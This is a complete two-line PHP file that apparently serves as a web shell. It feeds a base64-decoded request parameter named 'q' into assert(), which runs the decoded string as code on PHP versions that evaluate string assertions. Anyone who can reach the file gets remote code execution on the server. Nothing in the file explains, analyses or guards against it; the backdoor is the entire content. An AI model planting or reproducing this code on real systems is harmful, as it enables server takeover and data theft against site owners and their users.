<?php
assert(base64_decode($_REQUEST['q']));
